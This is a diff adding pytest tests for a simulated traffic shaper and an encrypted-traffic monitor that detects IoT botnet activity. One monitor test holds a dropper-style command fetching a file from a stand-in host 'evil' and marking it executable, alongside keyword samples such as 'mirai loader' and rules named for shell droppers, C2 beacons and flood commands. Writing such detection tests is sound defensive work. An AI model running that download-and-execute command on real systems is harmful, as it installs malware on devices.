@@ -1,0 +1,175 @@
+"""Tests for traffic shaping and the encrypted-traffic monitor."""
+
+import pytest
+
+from repro.network.packet import Packet
+from repro.network.protocols.tls import Certificate, CertificateAuthority, TlsSession
+from repro.security.network.monitor import (
+    DEFAULT_RULES,
+    DetectionRule,
+    EncryptedTrafficMonitor,
+)
+from repro.security.network.shaping import ShapingConfig, TrafficShaper
+from repro.sim import Simulator
+
+
+def make_packet(**kwargs):
+    defaults = dict(src="10.0.0.2", dst="198.51.100.10", size_bytes=100,
+                    src_device="bulb-1")
+    defaults.update(kwargs)
+    return Packet(**defaults)
+
+
+class TestShaper:
+    def test_off_config_not_enabled(self):
+        assert not ShapingConfig.off().enabled
+        assert ShapingConfig.delays_only().enabled
+        assert ShapingConfig.full().enabled
+
+    def test_delays_within_bound(self):
+        sim = Simulator(seed=3)
+        shaper = TrafficShaper(sim, ShapingConfig.delays_only(2.0))
+        for _ in range(50):
+            emissions = shaper(make_packet(), "outbound")
+            assert len(emissions) == 1
+            delay, _ = emissions[0]
+            assert 0.0 <= delay <= 2.0
+        assert shaper.mean_added_delay > 0
+
+    def test_cover_traffic_rate(self):
+        sim = Simulator(seed=3)
+        shaper = TrafficShaper(sim, ShapingConfig.cover_only(rate=1.0))
+        total_cover = 0
+        for _ in range(100):
+            emissions = shaper(make_packet(), "outbound")
+            total_cover += sum(p.is_cover_traffic for _, p in emissions)
+        assert total_cover == 100  # rate 1.0 = exactly one per packet
+        assert shaper.bandwidth_overhead == pytest.approx(1.0)
+
+    def test_fractional_cover_rate(self):
+        sim = Simulator(seed=3)
+        shaper = TrafficShaper(sim, ShapingConfig(cover_traffic_rate=0.5))
+        covers = 0
+        for _ in range(400):
+            emissions = shaper(make_packet(), "outbound")
+            covers += sum(p.is_cover_traffic for _, p in emissions)
+        assert 120 <= covers <= 280  # ~0.5 rate, generous bounds
+
+    def test_padding(self):
+        sim = Simulator()
+        shaper = TrafficShaper(sim, ShapingConfig(pad_to_bytes=512))
+        emissions = shaper(make_packet(size_bytes=100), "outbound")
+        assert emissions[0][1].size_bytes == 512
+        assert shaper.padding_bytes == 412
+        # Already-large packets untouched.
+        emissions = shaper(make_packet(size_bytes=900), "outbound")
+        assert emissions[0][1].size_bytes == 900
+
+    def test_cover_not_reshaped(self):
+        sim = Simulator()
+        shaper = TrafficShaper(sim, ShapingConfig.full())
+        cover = make_packet(is_cover_traffic=True)
+        emissions = shaper(cover, "outbound")
+        assert emissions == [(0.0, cover)]
+
+    def test_cover_packets_clone_real_sizes(self):
+        """Chaff must be indistinguishable by size from real packets."""
+        sim = Simulator(seed=1)
+        shaper = TrafficShaper(sim, ShapingConfig.cover_only(1.0))
+        emissions = shaper(make_packet(size_bytes=333), "outbound")
+        cover = [p for _, p in emissions if p.is_cover_traffic]
+        assert cover[0].size_bytes == 333
+
+    def test_determinism_per_seed(self):
+        def run(seed):
+            sim = Simulator(seed=seed)
+            shaper = TrafficShaper(sim, ShapingConfig.full())
+            out = []
+            for _ in range(20):
+                out.append(tuple(
+                    (round(d, 9), p.is_cover_traffic)
+                    for d, p in shaper(make_packet(), "outbound")
+                ))
+            return out
+
+        assert run(7) == run(7)
+        assert run(7) != run(8)
+
+
+class TestMonitor:
+    def test_plaintext_keyword_match(self):
+        sim = Simulator()
+        monitor = EncryptedTrafficMonitor(sim)
+        packet = make_packet(
+            payload={"cmd": "wget http://evil/x; chmod +x x"},
+            encrypted=False)
+        rule = monitor.inspect(packet)
+        assert rule is not None and rule.name == "shell-dropper"
+
+    def test_all_keywords_required(self):
+        sim = Simulator()
+        monitor = EncryptedTrafficMonitor(sim)
+        packet = make_packet(payload={"cmd": "wget alone"}, encrypted=False)
+        assert monitor.inspect(packet) is None
+
+    def test_benign_traffic_passes(self):
+        sim = Simulator()
+        monitor = EncryptedTrafficMonitor(sim)
+        packet = make_packet(payload={"kind": "telemetry", "state": "on"},
+                             encrypted=False)
+        emissions = monitor(packet, "outbound")
+        assert len(emissions) == 1
+
+    def test_opaque_encrypted_unmatchable(self):
+        sim = Simulator()
+        monitor = EncryptedTrafficMonitor(sim)
+        packet = make_packet(payload={"cmd": "wget x; chmod y"},
+                             encrypted=True)
+        assert monitor.inspect(packet) is None
+        assert monitor.opaque_packets == 1
+
+    def test_blindbox_token_match(self):
+        sim = Simulator()
+        token_key = b"shared-middlebox-key"
+        monitor = EncryptedTrafficMonitor(sim, token_key=token_key)
+        ca = CertificateAuthority()
+        cert = ca.issue("updates.example.com", b"pub")
+        session = TlsSession.handshake(b"s", cert, ca, token_key=token_key)
+        record = session.wrap(b"payload", keywords=["wget", "chmod", "foo"])
+        packet = make_packet(payload=record, encrypted=True)
+        rule = monitor.inspect(packet)
+        assert rule is not None and rule.name == "shell-dropper"
+
+    def test_blindbox_clean_record_passes(self):
+        sim = Simulator()
+        token_key = b"shared-middlebox-key"
+        monitor = EncryptedTrafficMonitor(sim, token_key=token_key)
+        ca = CertificateAuthority()
+        session = TlsSession.handshake(
+            b"s", ca.issue("u.example.com", b"p"), ca, token_key=token_key)
+        record = session.wrap(b"payload", keywords=["version", "update"])
+        assert monitor.inspect(make_packet(payload=record, encrypted=True)) is None
+
+    def test_middleware_blocks_and_reports(self):
+        sim = Simulator()
+        signals = []
+        monitor = EncryptedTrafficMonitor(sim, report=signals.append)
+        bad = make_packet(payload={"x": "mirai loader"}, encrypted=False)
+        assert monitor(bad, "outbound") == []
+        assert monitor.matches
+        assert signals[0].signal_type.value == "c2_keyword"
+
+    def test_non_blocking_mode(self):
+        sim = Simulator()
+        monitor = EncryptedTrafficMonitor(sim, block_matches=False)
+        bad = make_packet(payload={"x": "mirai loader"}, encrypted=False)
+        assert len(monitor(bad, "outbound")) == 1
+
+    def test_rule_requires_keywords(self):
+        with pytest.raises(ValueError):
+            DetectionRule("empty", ())
+
+    def test_default_rules_cover_botnet_lifecycle(self):
+        names = {r.name for r in DEFAULT_RULES}
+        assert {"shell-dropper", "c2-beacon", "mirai-loader",
+                "flood-command"} <= names
